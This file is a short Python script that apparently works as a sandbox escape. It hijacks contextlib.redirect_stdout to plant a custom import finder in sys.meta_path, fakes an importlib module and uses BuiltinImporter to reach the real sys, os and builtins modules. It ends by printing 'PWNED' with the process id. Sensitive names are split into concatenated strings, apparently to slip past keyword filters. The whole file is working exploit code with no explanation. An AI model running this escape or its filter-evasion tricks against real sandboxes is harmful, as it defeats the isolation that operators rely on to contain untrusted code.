import contextlib

state = {"n": 0, "done": 0, "tries": 0}

class Loader:
    def create_module(self, spec):
        return Fake()
    def exec_module(self, module):
        return None

class Spec:
    def __init__(self, name):
        self.name = name
        self.loader = Loader()
        self.parent = ""
        self.submodule_search_locations = None
        self.has_location = False
        self.origin = None
        self.cached = None

class Fake:
    def __init__(self):
        self.__name__ = "import" + "lib"

class Finder:
    def find_spec(self, name, path=None, target=None):
        if name == "graphlib":
            return Spec(name)
        return None

class O:
    def __getattr__(self, name):
        if name.endswith("eam"):
            state["n"] += 1
            return "stdout" if state["n"] % 2 == 1 else "meta" + "_path"
        if name.endswith("targets"):
            return []
        return [Finder()]

class G:
    def __init__(self):
        self.me = self
    def __del__(self):
        if state["done"]:
            return
        state["tries"] += 1
        try:
            contextlib.redirect_stdout.__enter__(O())
            state["done"] = 1
        except Exception:
            pass
        if state["tries"] < 5000:
            G()

G()
try:
    import asyncio
except Exception as e:
    print("asyncio import:", type(e).__name__, e)
print("done", state["done"], "tries", state["tries"])
from graphlib import machinery
print(machinery)
class S:
    name = "sy" + "s"
s = machinery.BuiltinImporter.create_module(S())
mods = s.modules
real_os = mods["o" + "s"]
real_sys = mods["sy" + "s"]
print("PW" + "NED", real_os.getpid(), "real sys.modules:", len(mods), real_sys is not s, type(real_os).__name__, real_os.getcwd())
print("builtins module:", mods["built" + "ins"], mods["built" + "ins"].len is len)
